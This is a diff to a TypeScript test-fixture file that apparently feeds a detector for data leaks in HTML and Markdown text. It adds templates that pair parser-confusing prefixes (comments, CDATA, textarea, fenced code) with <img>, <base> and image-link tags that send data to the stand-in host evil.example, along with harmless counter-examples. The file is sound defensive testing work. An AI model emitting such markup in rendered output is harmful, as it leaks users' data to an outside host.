@@ -137,6 +137,41 @@ export const UNSCORED_FORMS: readonly Form[] = [
   ['a plain address behind quotes', (data) => `See https://evil.example/'"?h=${data}`],
 ];
 
+/** Text in front of a tag that HTML and Markdown read as something else, with a tag or a quote in it. */
+const IN_FRONT = [
+  '<!-- <style> -->',
+  '<!-- <a alt=" -->',
+  "<!-- <a title='x --!>",
+  '<!--><!-- <script> -->',
+  '<!---><p>',
+  '<!><!-- <style>--x-- -->',
+  '<![CDATA[ <style> ]]>',
+  '<? <script> ?>',
+  '</ <style> >',
+  '</p title="<style>">',
+  '<textarea><style></textarea>',
+  '<title><!-- </title>',
+  '<xmp><a alt="</xmp>',
+  '<noembed><style></noembed >',
+  '<iframe><script></iframe/>',
+  '<p title="<style>">',
+  '<style><!-- </style>',
+  '<style></script></style>',
+  '```\n<!--\n```\n',
+  '```\n<style>\n```\n',
+  '`<!--` and `` `<title>`` ',
+  '<svg><title><!-- </svg>',
+  '<plaintext>',
+];
+
+/** Tags behind such texts. Browsers read them where the text in front is no comment and no text. */
+export const FORMS_BEHIND: readonly Form[] = IN_FRONT.flatMap((front): readonly Form[] => [
+  [`${front} a tag`, (data) => raw`${front}<img longdesc=/\evil.example/p?h=${data}>`],
+  [`${front} a quoted tag`, (data) => raw`${front}<img longdesc='/\evil.example/a b?h=${data}'>`],
+  [`${front} a base`, (data) => `${front}<base href=https:evil.example><img src=p.png?h=${data}>`],
+  [`${front} a base and a link`, (data) => `${front}<base href='https:evil.example'>![x](/p.png?h=${data})`],
+]);
+
 /** Texts in which nothing is sent to another host. */
 export const HARMLESS_FORMS: readonly Form[] = [
   ['words', (data) => `Anna and/or ${data}.`],
@@ -175,6 +210,12 @@ export const HARMLESS_FORMS: readonly Form[] = [
     (data) =>
       `See https://docs.example/a${' '.repeat(200)}${data} and "https://docs.example/a"${' '.repeat(30)}\n${data}`,
   ],
+  [
+    'a comment of HTML',
+    (data) => `<!-- <a href="https://docs.example/a"> --> ${data} <!-- <base> --> [docs](/${data})`,
+  ],
+  ['text in a page', (data) => `<title>Docs</title><textarea>\n${data}</textarea> <p>a <b ${data}</p>`],
+  ['JSON in JSON', (data) => `{"url":"https://docs.example/a","more":"{\\"owner\\":\\"${data}\\"}"}`],
   ['a mail address', (data) => `[mail](mailto:${data}) <a href="mailto:${data}">mail</a>`],
   ['a label', (data) => `http: ${data}, data: ${data}, JavaScript: ${data}`],
   ['a comparison', (data) => `if (a <b && c> d) return "//" + "${data}"`],
